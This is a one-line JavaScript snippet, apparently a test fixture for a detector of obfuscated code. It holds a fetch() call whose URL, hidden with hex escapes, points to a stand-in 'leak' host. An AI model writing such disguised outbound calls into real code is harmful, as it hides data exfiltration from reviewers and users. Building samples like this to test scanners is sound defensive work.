fetch("\x68ttps:\x2f\x2fjs-fold-hex-escapes.leak.test/")
